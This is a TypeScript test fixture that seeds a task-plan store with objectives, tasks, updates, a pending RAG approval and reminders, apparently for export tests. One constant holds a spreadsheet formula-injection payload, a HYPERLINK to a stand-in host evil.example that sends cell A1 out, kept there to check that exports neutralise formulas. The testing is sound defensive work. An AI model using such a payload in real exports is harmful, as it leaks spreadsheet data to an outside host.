import type { Person, Task } from '../../../core/model';
import { fixedClock } from '../../../core/ports/clock';
import type { PlanStore } from '../../../core/ports/plan-store';
import { openRound } from '../../../core/use-cases/open-round';
import { alice, bob, carol, taskInput, updateInput } from '../../support/builders';

export const NOW = new Date('2026-11-22T10:00:00Z');
export const ROUND_OPENED = new Date('2026-11-20T09:00:00Z');

/** A formula a hostile owner might type into an update: exports must not let a spreadsheet run it. */
export const FORMULA_UPDATE = '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")';

export interface SeededPlan {
  tasks: Record<'green' | 'overdue' | 'done', Task>;
  roundId: string;
}

/**
 * Two objectives, three tasks: 1.1.1 (Alice, answered the open round, RAG change to Amber pending
 * with Bob), 1.1.2 (Bob, overdue, not answered, no chat with the bot), 2.1 (Carol, Complete).
 */
export async function seedPlan(store: PlanStore, options: { round?: boolean } = {}): Promise<SeededPlan> {
  await store.createObjective({ ref: '1', title: 'Understanding our communities' });
  await store.createObjective({ ref: '2', title: 'A diverse and engaged workforce' });
  const green = await store.createTask(taskInput({ ref: '1.1.1', title: 'Publish the equality data report', owners: [alice], accountableOfficer: bob, dueDate: '2026-12-01' }));
  const overdue = await store.createTask(
    taskInput({ ref: '1.1.2', title: 'Refresh the customer equality monitoring form', owners: [bob], dueDate: '2026-11-01', dueText: 'By November 2026', rag: 'Amber', latestUpdate: FORMULA_UPDATE, latestUpdateAt: '2026-10-15T12:00:00.000Z', latestUpdateBy: bob }),
  );
  const done = await store.createTask(taskInput({ ref: '2.1', title: 'Run inclusive recruitment training', objectiveRef: '2', indicator: '2.1 Workforce', owners: [carol], rag: 'Complete', status: 'Complete', dueDate: '2026-06-30' }));
  await store.saveConversation({ aadObjectId: alice.aadObjectId, reference: { conversation: { id: 'c-alice' } }, updatedAt: '2026-11-01T09:00:00.000Z' });

  let roundId = '';
  if (options.round !== false) {
    const opened = await openRound({ store, clock: fixedClock(ROUND_OPENED) }, { name: 'Board report December 2026', dueDate: '2026-12-04', scope: { kind: 'all-open' } });
    roundId = opened.round.id;
  }
  await addUpdate(store, green, alice, { submittedAt: '2026-11-10T09:00:00.000Z', progress: 'Data gathered from services.', round: undefined });
  await addUpdate(store, (await store.getTask(green.id))!, alice, { submittedAt: '2026-11-21T09:00:00.000Z', progress: 'Draft report with the working group.', ragProposed: 'Amber', round: options.round !== false ? 'Board report December 2026' : undefined });
  await store.createApproval({
    key: 'approval-1',
    taskId: green.id,
    taskRef: green.ref,
    fromRag: 'Green',
    toRag: 'Amber',
    requestedBy: alice,
    requestedAt: '2026-11-21T09:00:00.000Z',
    justification: 'Supplier delay on the data extract.',
    approver: bob,
    route: 'accountable-officer',
    state: 'Pending',
  });
  const pointed = (await store.getTask(green.id))!;
  await store.updateTask(green.id, pointed.version, { pendingRag: 'Amber', pendingApprovalId: 'approval-1' });
  await store.tryAddReminder({ key: `${green.id}:due-14:2026-12-01:${alice.aadObjectId}`, taskId: green.id, recipient: alice, trigger: 'due-14', sentAt: '2026-11-17T09:00:00.000Z', outcome: 'sent' });
  await store.tryAddReminder({ key: `${overdue.id}:overdue-1:2026-11-01:${bob.aadObjectId}`, taskId: overdue.id, recipient: bob, trigger: 'overdue-1', sentAt: '2026-11-02T09:00:00.000Z', outcome: 'failed', detail: 'no-conversation' });
  return { tasks: { green: (await store.getTask(green.id))!, overdue, done }, roundId };
}

async function addUpdate(store: PlanStore, task: Task, by: Person, fields: { submittedAt: string; progress: string; ragProposed?: Task['rag']; round?: string }) {
  await store.recordUpdate({
    update: updateInput(task.id, { taskRef: task.ref, submittedBy: by, ...fields }),
    task: { id: task.id, expectedVersion: task.version, patch: { latestUpdate: fields.progress, latestUpdateAt: fields.submittedAt, latestUpdateBy: by } },
  });
}
